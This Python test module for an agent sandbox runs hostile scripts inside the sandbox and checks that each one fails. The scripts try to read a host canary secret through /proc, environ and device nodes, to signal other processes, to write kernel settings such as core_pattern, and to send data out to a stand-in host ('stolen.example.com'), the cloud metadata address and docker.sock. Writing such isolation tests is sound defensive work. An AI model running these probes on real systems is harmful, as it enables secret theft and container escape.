"""Attacks on the walls: secrets, other processes, the network."""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from vime_agents.sandbox import Sandbox, SandboxProvider
from vime_agents.testing.sandbox_attack_kit import attack, hostile
from vime_agents.testing.sandbox_kit import expect

_READ_SECRETS = """\
import os, stat, sys
secret, path = sys.stdin.buffer.read(), sys.argv[2]
tries = [path, '..' + path, '/proc/self/cwd/../../../../../..' + path]
for p in os.listdir('/proc'):
    if p.isdigit() and int(p) != os.getpid():
        tries += [f'/proc/{p}/root{path}', f'/proc/{p}/cwd{path}', f'/proc/{p}/environ', f'/proc/{p}/cmdline']
        try: tries += [f'/proc/{p}/fd/{n}' for n in os.listdir(f'/proc/{p}/fd')]
        except OSError: pass
for top in ('/run', '/var/run', '/tmp', '/mnt', '/media', '/srv', '/opt', '/home', '/root', '/host', '/etc'):
    for folder, _, names in os.walk(top):
        tries += [os.path.join(folder, n) for n in names]
for t in tries:
    try:
        fd = os.open(t, os.O_RDONLY | os.O_NONBLOCK)
        if secret in os.read(fd, 4096): print('read', t); break
        os.close(fd)
    except OSError: pass
for folder, _, names in os.walk('/dev'):
    for n in names:
        d = os.path.join(folder, n)
        try:
            kind = os.stat(d).st_mode
            if stat.S_ISBLK(kind) or n in ('mem', 'kmem', 'port', 'kvm', 'fuse'):
                os.close(os.open(d, os.O_RDONLY | os.O_NONBLOCK)); print('opened', d)
        except OSError: pass
for kind in (stat.S_IFBLK, stat.S_IFCHR):
    for number in ((8, 0), (259, 0), (1, 1), (253, 0), (254, 0)):
        try:
            os.mknod('node', kind | 0o600, os.makedev(*number))
            os.close(os.open('node', os.O_RDONLY | os.O_NONBLOCK)); print('opened a made device', number)
        except OSError: pass
        try: os.unlink('node')
        except OSError: pass
"""


@attack()
async def read_host_secrets(provider: SandboxProvider, sandbox: Sandbox, mark: str) -> None:
    """By every path, through every process and every device that it can see: nothing of the owner's."""
    secret, name = secrets.token_hex(16), "VIME_ATTACK_CANARY"
    os.environ[name] = secret
    try:
        with tempfile.NamedTemporaryFile("w", prefix="vime-canary-") as canary:
            canary.write(secret)
            canary.flush()
            result = await hostile(sandbox, _READ_SECRETS, mark, canary.name, stdin=secret.encode())
            expect(result.ok and result.stdout == b"", "no secret of the host", result)
    finally:
        del os.environ[name]


_LOOK_AT_OTHERS = """\
import os, sys
theirs, pids = sys.argv[2], sys.argv[3].split(',')
for p in os.listdir('/proc'):
    if not p.isdigit(): continue
    for name in ('cmdline', 'environ', 'comm'):
        try:
            if theirs.encode() in open(f'/proc/{p}/{name}', 'rb').read() and int(p) != os.getpid():
                print('saw', p, name)
        except OSError: pass
for p in pids:
    try: os.kill(int(p), 0); print('could signal', p)
    except (ProcessLookupError, PermissionError): pass
for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches',
             '/proc/sys/kernel/hostname', '/sys/kernel/uevent_helper', '/proc/1/mem'):
    try: open(path, 'r+b').close(); print('may write', path)
    except OSError: pass
"""


def _start(command: list[str]) -> subprocess.Popen[bytes]:
    return subprocess.Popen(command)


@attack()
async def look_at_the_processes_of_others(provider: SandboxProvider, sandbox: Sandbox, mark: str) -> None:
    """Processes of the host and of a neighbour are not seen or signalled; kernel settings not written."""
    theirs = secrets.token_hex(8)
    code = "import time; time.sleep(600)"
    child = _start([sys.executable, "-IS", "-c", code, theirs])
    neighbour = await provider.create(sandbox.spec)
    try:
        await neighbour.spawn(["python3", "-IS", "-c", code, theirs])
        # The neighbour's own numbers mean nothing here; the host's might.
        pids = f"{child.pid},{os.getpid()},{os.getppid()}"
        far = [p for p in pids.split(",") if int(p) > 1000]  # low numbers are processes of its own
        result = await hostile(sandbox, _LOOK_AT_OTHERS, mark, theirs, ",".join(far) or "999999")
        expect(result.ok and result.stdout == b"", "no process of another", result)
        expect(child.poll() is None, "the host's process lives", child.poll())
    finally:
        child.kill()
        child.wait()
        await neighbour.close()


_CALL_OUT = """\
import os, socket, sys
port, name, path, vsock, own = int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5]), sys.argv[6]
def attempt(what, family, kind, address):
    try: s = socket.socket(family, kind)
    except OSError: return
    s.settimeout(2)
    try:
        if kind == socket.SOCK_DGRAM: s.sendto(b'stolen', address)
        else: s.connect(address)
        print('reached', what, address)
    except OSError: pass
    s.close()
for host in ('127.0.0.1', '192.0.2.1', '169.254.169.254', '172.17.0.1', own):
    for p in (port, 53, 80):
        attempt('tcp', socket.AF_INET, socket.SOCK_STREAM, (host, p))
        if not host.startswith('127.'): attempt('udp', socket.AF_INET, socket.SOCK_DGRAM, (host, p))
attempt('tcp6', socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80))
attempt('udp6', socket.AF_INET6, socket.SOCK_DGRAM, ('2001:db8::1', 53))
attempt('abstract', socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + name)
for p in (path, '/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket'):
    attempt('unix', socket.AF_UNIX, socket.SOCK_STREAM, p)
if hasattr(socket, 'AF_VSOCK'):
    for cid in (0, 1, 2, 3): attempt('vsock', socket.AF_VSOCK, socket.SOCK_STREAM, (cid, vsock))
for kind in (socket.SOCK_RAW,):
    for family, protocol in ((socket.AF_INET, 1), (getattr(socket, 'AF_PACKET', 17), 3)):
        try: socket.socket(family, kind, protocol).close(); print('raw socket', family)
        except OSError: pass
try: print('looked up', socket.getaddrinfo('stolen.example.com', 80))
except OSError: pass
"""


@attack()
async def send_data_out(provider: SandboxProvider, sandbox: Sandbox, mark: str) -> None:
    """Over TCP, UDP, IPv6, names, Unix sockets (paths and abstract), vsock, raw sockets: nothing gets out."""
    heard: list[str] = []
    with tempfile.TemporaryDirectory(prefix="vime-attack-") as folder, _listening(folder, heard) as ports:
        tcp, name, path, vsock = ports
        result = await hostile(
            sandbox, _CALL_OUT, mark, str(tcp), name, path, str(vsock), _own_address(), timeout_s=120.0
        )
        await asyncio.sleep(0)  # what has arrived is heard
        expect(result.ok and result.stdout == b"", "nothing reached", result)
        expect(heard == [], "nothing heard on this machine", heard)
        expect("network" in sandbox.enforced, "'network' in enforced", sandbox.enforced)


def _own_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # sends nothing
            return str(probe.getsockname()[0])
        except OSError:  # this machine has no network of its own
            return "127.0.0.2"


@contextlib.contextmanager
def _listening(folder: str, heard: list[str]) -> Iterator[tuple[int, str, str, int]]:
    """Listeners of the host, of every kind that works here: TCP port, abstract name, path, vsock port."""
    loop, name = asyncio.get_running_loop(), f"vime-{secrets.token_hex(8)}"
    path = str(Path(folder, "socket"))
    os.chmod(folder, 0o755)
    wanted: list[tuple[str, int, Any]] = [
        ("tcp", socket.AF_INET, ("0.0.0.0", 0)),
        ("abstract", socket.AF_UNIX, "\0" + name),
        ("path", socket.AF_UNIX, path),
    ]
    if hasattr(socket, "AF_VSOCK"):
        wanted.append(("vsock", socket.AF_VSOCK, (socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY)))
    open_sockets: dict[str, socket.socket] = {}
    try:
        for kind, family, address in wanted:
            try:
                listener = socket.socket(family)
            except OSError:  # this kernel has no such family
                continue
            open_sockets[kind] = listener
            listener.bind(address)
            listener.listen()
            listener.setblocking(False)
            loop.add_reader(listener, heard.append, kind)
        os.chmod(path, 0o777)
        vsock = open_sockets["vsock"].getsockname()[1] if "vsock" in open_sockets else 9
        yield open_sockets["tcp"].getsockname()[1], name, path, vsock
    finally:
        for listener in open_sockets.values():
            loop.remove_reader(listener)
            listener.close()
